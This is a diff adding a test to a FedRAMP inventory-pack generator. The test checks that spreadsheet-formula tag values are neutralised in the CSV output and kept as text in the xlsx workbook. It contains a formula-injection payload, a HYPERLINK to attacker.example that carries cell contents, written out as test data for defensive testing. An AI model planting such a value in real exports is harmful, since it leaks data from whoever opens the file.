@@ -2,7 +2,7 @@
 // recorded, in the columns of FedRAMP's Integrated Inventory Workbook, signed with the rest of the pack.
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { readdirSync, readFileSync } from 'node:fs';
+import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
@@ -126,6 +126,34 @@ describe('the system inventory of a sample pack', () => {
     assert.match(section, /<td class="mono">AWS::S3::Bucket<\/td><td>5<\/td>/);
     assert.match(section, /<td class="mono">111111111111<\/td><td>17<\/td>/);
     assert.match(section, /inventory\.csv.*inventory\.xlsx/s);
+  });
+});
+
+describe('hostile tag values in the inventory', () => {
+  it('a tag value a spreadsheet would run as a formula is neutralised in inventory.csv, kept as text in the workbook', async (t) => {
+    const work = tempDir(t);
+    const evidence = join(work, 'evidence');
+    cpSync(sampleDir, evidence, { recursive: true });
+    const dir = join(evidence, 'config-snapshots');
+    const file = (readdirSync(dir, { recursive: true }) as string[]).find((f) => f.includes('111111111111_Config_us-east-1'))!;
+    const snapshot = JSON.parse(readFileSync(join(dir, file), 'utf8'));
+    const ws = snapshot.configurationItems.find((ci: { resourceId: string }) => ci.resourceId === 'ws-b8n3p5r2t');
+    ws.tags = { ...ws.tags, Function: '=HYPERLINK("http://attacker.example/?x="&A1,"click")', Owner: '@SUM(1+1)' };
+    writeFileSync(join(dir, file), JSON.stringify(snapshot));
+    const r = await runCli(['run', '--evidence', evidence, '--out', join(work, 'out'), '--no-pdf'], {});
+    assert.equal(r.code, 0, r.stderr);
+    const pack = onlyPack(join(work, 'out'));
+    const row = readCsv(join(pack, 'inventory.csv')).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
+    assert.equal(row[inventoryHeaders.indexOf('Function')], `'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
+    assert.equal(row[inventoryHeaders.indexOf('System Administrator/ Owner')], "'@SUM(1+1)");
+    const cells = readFileSync(join(pack, 'inventory.csv'), 'utf8').split('\r\n').flatMap((l) => l.split(','));
+    assert.ok(cells.every((c) => !/^"?[=+@]/.test(c)), 'no formula cell in inventory.csv');
+    const sheet = (await readWorkbook(join(pack, 'inventory.xlsx'))).getWorksheet('Inventory')!;
+    const xrow = sheetRows(sheet).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
+    assert.equal(xrow[inventoryHeaders.indexOf('Function')], '=HYPERLINK("http://attacker.example/?x="&A1,"click")', 'a text cell, as written');
+    let formulas = 0;
+    sheet.eachRow((r) => r.eachCell((c) => { if (c.type === ExcelJS.ValueType.Formula) formulas++; }));
+    assert.equal(formulas, 0, 'no formula cell in the workbook');
   });
 });
 
